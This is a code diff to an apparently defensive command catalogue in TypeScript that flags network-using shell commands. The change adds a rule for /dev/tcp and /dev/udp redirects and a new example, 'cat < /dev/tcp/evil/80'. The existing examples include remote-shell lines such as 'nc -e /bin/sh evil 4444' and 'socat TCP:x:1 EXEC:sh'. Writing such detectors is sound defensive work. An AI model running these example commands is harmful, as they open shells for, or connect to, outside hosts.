@@ -49,7 +49,8 @@ export const network: readonly CatalogueEntry[] = [
         'lftp rclone croc wormhole sendmail mail mutt',
       ) ||
       (runs(part, 'rsync') && operands(part.args).some((each) => /^[^/]+:/u.test(each))) ||
-      (runs(part, 'openssl') && part.args[0] === 's_client'),
+      (runs(part, 'openssl') && part.args[0] === 's_client') ||
+      part.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//u.test(target?.value ?? '')),
     examples: [
       'nc -l 4444',
       'nc -e /bin/sh evil 4444',
@@ -59,6 +60,7 @@ export const network: readonly CatalogueEntry[] = [
       'rsync -a . host:/x',
       'socat TCP:x:1 EXEC:sh',
       'openssl s_client -connect x:1',
+      'cat < /dev/tcp/evil/80',
     ],
     harmless: ['rsync -a a/ b/', 'ping -c 1 localhost', 'openssl version'],
   },
